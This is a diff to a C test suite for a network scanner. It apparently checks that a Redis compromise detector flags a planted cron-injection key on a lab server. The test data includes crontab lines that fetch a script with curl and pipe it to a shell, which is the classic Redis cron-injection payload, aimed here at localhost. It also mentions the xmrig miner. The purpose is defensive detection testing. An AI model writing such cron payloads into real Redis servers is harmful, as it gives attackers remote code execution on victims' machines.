@@ -13,6 +13,7 @@
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
+#include <sys/time.h>
 #include <criterion/criterion.h>
 #include "lab_util.h"
 #include "check.h"
@@ -341,4 +342,118 @@ Test(rawapi_lab, redis_protected_mode, .timeout = 30)
 		  "reason: %s", why ? why : "(none)");
 	scan_result_release(&res);
 	target_list_release(&l);
+}
+
+/* ---- redis.compromise_indicator against the lab's open redis-server ---- */
+
+/* sends one command (RESP array of args) to addr:6379 and reads the
+ * start of its reply into out; false if nothing came back */
+static bool redis_cmd(const char *addr, const char *const *argv, size_t argc,
+		      char *out, size_t size)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET,
+				  .sin_port = htons(6379) };
+	struct timeval tv = { 5, 0 };
+	char buf[8192];
+	size_t i, len = 0;
+	ssize_t n;
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+	bool ok = false;
+
+	cr_assert_geq(fd, 0);
+	cr_assert_eq(inet_pton(AF_INET, addr, &sa.sin_addr), 1);
+	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
+		goto out;
+	len = (size_t)snprintf(buf, sizeof(buf), "*%zu\r\n", argc);
+	for (i = 0; i < argc && len < sizeof(buf); i++)
+		len += (size_t)snprintf(buf + len, sizeof(buf) - len,
+					"$%zu\r\n%s\r\n", strlen(argv[i]),
+					argv[i]);
+	cr_assert_lt(len, sizeof(buf));
+	if (send(fd, buf, len, MSG_NOSIGNAL) != (ssize_t)len)
+		goto out;
+	n = recv(fd, out, size - 1, 0);
+	if (n > 0) {
+		out[n] = '\0';
+		ok = true;
+	}
+out:
+	close(fd);
+	return ok;
+}
+
+static void redis_set(const char *addr, const char *key, const char *val)
+{
+	const char *argv[] = { "SET", key, val };
+	char r[256];
+
+	cr_assert(redis_cmd(addr, argv, 3, r, sizeof(r)), "SET %s", key);
+	cr_assert_str_eq(r, "+OK\r\n", "SET %s: %s", key, r);
+}
+
+static void redis_forget(const char *addr)
+{
+	const char *argv[] = { "DEL", "backup1", "backup2", "expo-lab-notes" };
+	char r[256];
+
+	(void)redis_cmd(addr, argv, 4, r, sizeof(r));
+}
+
+static void redis_scan(const char *addr, char *ids, size_t isize, char *ev,
+		       size_t esize)
+{
+	struct scan_config cfg;
+	struct target_list l;
+	struct scan_result res;
+	const struct finding *f;
+	const char *why;
+	double secs;
+
+	lab_scan_config(&cfg, raw_checks, NRAW, 20000);
+	target_list_init(&l);
+	lab_add_target(&l, addr);
+	lab_scan(&cfg, &l, &res, &secs, 0);
+	lab_rules_for(&res, addr, ids, isize);
+	f = lab_finding_for(&res, addr, "redis.compromise_indicator");
+	snprintf(ev, esize, "%s", f != NULL ? f->evidence : "");
+	if (f != NULL)
+		cr_expect_eq(f->severity, SEV_CRITICAL);
+	cr_expect_eq(lab_check_status(&res, 0, 6379, &check_redis, &why),
+		     STATUS_OPEN, "redis: %s", why);
+	scan_result_release(&res);
+	target_list_release(&l);
+}
+
+/* keys written by the test: a clean twin (no such key) and a decoy (the
+ * payload under a name no campaign uses, a listed name holding harmless
+ * words) report the open door only; a cron-injection key is a sign */
+Test(rawapi_lab, redis_compromise_indicator, .timeout = 60)
+{
+	char addr[64], ids[256], ev[2048];
+
+	lab_addr("EXPO_LAB_REDIS_OPEN", addr, sizeof(addr));
+	redis_forget(addr);
+	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
+	cr_expect_str_eq(ids, "redis.no_auth", "clean twin: {%s} %s", ids, ev);
+
+	redis_set(
+		addr, "expo-lab-notes",
+		"\n\n*/2 * * * * root curl -fsSL http://127.0.0.1/x | sh\n\n");
+	redis_set(addr, "backup2", "nightly backup; xmrig is blocked here");
+	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
+	cr_expect_str_eq(ids, "redis.no_auth", "decoy: {%s} %s", ids, ev);
+
+	redis_set(addr, "backup1",
+		  "\n\n*/2 * * * * root curl -fsSL http://127.0.0.1/b.sh | "
+		  "sh\n\n");
+	redis_scan(addr, ids, sizeof(ids), ev, sizeof(ev));
+	cr_expect_str_eq(ids, "redis.compromise_indicator,redis.no_auth",
+			 "injected: {%s}", ids);
+	cr_expect(strstr(ev, "1 sign of compromise: cron line that fetches "
+			     "and pipes to a shell") &&
+			  strstr(ev, "in the value of key backup1") &&
+			  strstr(ev, "expo-lab-notes") == NULL,
+		  "%s", ev);
+	redis_forget(addr);
 }
